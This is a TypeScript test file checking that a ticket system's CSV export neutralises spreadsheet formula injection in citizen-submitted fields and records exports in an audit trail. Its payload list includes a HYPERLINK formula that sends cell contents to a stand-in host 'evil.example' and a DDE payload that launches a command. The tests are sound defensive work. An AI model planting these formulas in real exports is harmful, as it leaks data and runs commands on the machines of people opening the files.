import t from 'tap'
import { citizenWrites, at as ticketAt } from '../../services/api/test/house.ts'
import { besiege } from './siege.ts'

/** What citizens and people wrote is opened by spreadsheets, in which a cell can be a program. */

const HEAD = { id: 'zhao', name: '赵宏', role: 'head' }
const FORMULAS = [
  `=HYPERLINK("http://evil.example/?x="&A1,"点此")`,
  `=cmd|'/c calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '"=1+1',
  `x","=1+1`,
  `x\r\n=1+1,=1+1`,
  ';=1+1',
  '%3D1+1'
]

/** Rows and cells as RFC 4180 reads them. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  const text = csv.replace(/^\ufeff/, '')
  for (let at = 0; at < text.length; at++) {
    const mark = text[at]!
    if (quoted && mark === '"' && text[at + 1] === '"') cell += text[at++]
    else if (mark === '"' && (quoted || cell === '')) quoted = !quoted
    else if (!quoted && (mark === ',' || mark === '\n')) {
      rows.at(-1)!.push(cell.replace(/\r$/, ''))
      cell = ''
      if (mark === '\n') rows.push([])
    } else cell += mark
  }
  return rows.filter(row => row.length > 0)
}

/** How a spreadsheet begins a formula: blanks and what is not shown are passed over by some. */
const isFormula = (cell: string) =>
  /^[\s\u200b-\u200d\u2060\ufeff]*[=+@＝＋＠－-]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)

const siege = await besiege(t)
const { house, at, post } = siege
const cookie = await siege.cookieOf(HEAD)

t.test('a table of tickets holds no formula and no row that somebody wrote', async t => {
  const ids = []
  for (const [n, formula] of FORMULAS.entries())
    ids.push(
      await citizenWrites(house, {
        ...{ platform: 'weibo', account: '1001', post: 'p1', root: `f${n}`, comment: `f${n}` },
        ...{ author: { id: `f${n}`, name: formula }, text: `${formula}积水`, postTitle: formula, place: formula },
        publishedAt: house.time.now
      })
    )
  for (const formula of FORMULAS.slice(0, 3))
    await post(
      `${ticketAt(ids[0]!)}/tags`,
      { add: [formula.slice(0, 20)] },
      { cookie, 'idempotency-key': formula.length }
    )
  for (const lang of ['zh', 'en']) {
    const answer = await at(`/api/tickets/export.csv?lang=${lang}`, { headers: { cookie } })
    t.equal(answer.status, 200)
    t.match(answer.headers['content-type'], /^text\/csv/)
    t.match(answer.headers['content-disposition'], /^attachment/)
    t.equal(answer.headers['x-content-type-options'], 'nosniff')
    const [header, ...rows] = cellsOf(answer.body)
    t.equal(rows.length, FORMULAS.length, 'no citizen adds a row')
    t.ok(
      rows.every(row => row.length === header?.length),
      'nor a cell'
    )
    t.same(rows.flat().filter(isFormula), [])
    t.match(answer.body, /HYPERLINK/, 'their words are there')
  }
})

t.test('who took it out, and by which filter, is in the trail; what was searched for is not', async t => {
  const found = siege.told.filter(({ type }) => type === 'exported')
  t.match(found, [{ actor: { id: 'zhao' }, data: { what: 'tickets', rows: FORMULAS.length } }, { type: 'exported' }])
})
